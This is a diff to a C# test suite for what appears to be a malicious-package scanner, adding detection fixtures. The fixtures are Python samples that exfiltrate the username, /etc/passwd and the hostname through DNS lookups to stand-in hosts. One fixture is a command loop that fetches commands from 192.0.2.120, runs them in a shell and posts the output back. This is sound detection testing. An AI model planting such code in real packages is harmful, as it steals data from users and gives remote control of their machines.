@@ -79,6 +79,7 @@ public sealed class ImportReachTests
     [InlineData("import base64, socket\ndata = open('/etc/hostname', 'rb').read()\nenc = base64.b32encode(data).decode().strip('=')\nsocket.gethostbyname(enc + '.z.invalid')\n")]
     [InlineData("import binascii, os, dns.resolver\nblob = binascii.hexlify(os.getcwd().encode()).decode()\nfor i in range(0, len(blob), 40):\n    dns.resolver.resolve('%s.%d.z.invalid' % (blob[i:i + 40], i), 'A')\n")]
     [InlineData("import socket\nname = open('/etc/passwd', 'rb').read(30).hex()\nsocket.getaddrinfo(f'{name}.z.invalid', 53)\n")]
+    [InlineData("import getpass, socket\nblob = getpass.getuser().encode()\nfor i, part in enumerate([blob.hex()]):\n    socket.getaddrinfo('%s.%d.z.invalid' % (part, i), 53)\n")]
     public async Task Dns_lookups_of_encoded_data_at_import_are_exfiltration(string init)
     {
         var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", init));
@@ -124,6 +125,17 @@ public sealed class ImportReachTests
         var report = await Packages.ScanSdistAsync(("demo_pkg/runner.py", runner), ("demo_pkg/__init__.py", "from .runner import run\n"));
         Assert.False(report.Has("reverse-shell"), Findings(report));
         Assert.Equal(Verdict.Benign, report.Verdict);
+    }
+
+    [Fact]
+    public async Task A_command_loop_obeying_a_server_written_into_the_package_weighs_even_when_called()
+    {
+        var debug = "import subprocess, threading, requests\n_SERVER = 'http://192.0.2.120:7331'\n\ndef _handle(cmd):\n    return subprocess.check_output(cmd, shell=True).decode()\n\n" +
+            "def _poll():\n    while True:\n        cmd = requests.get(_SERVER + '/commands').json().get('command')\n        requests.post(_SERVER + '/output', json={'output': _handle(cmd)})\n\n" +
+            "def run_debug():\n    threading.Thread(target=_poll, daemon=True).start()\n";
+        var report = await Packages.ScanSdistAsync(("demo_pkg/debug.py", debug), ("demo_pkg/__init__.py", "from .debug import run_debug\n"));
+        Assert.True(report.Has("reverse-shell"), Findings(report));
+        Assert.Equal(Verdict.Threat, report.Verdict);
     }
 
     [Theory]
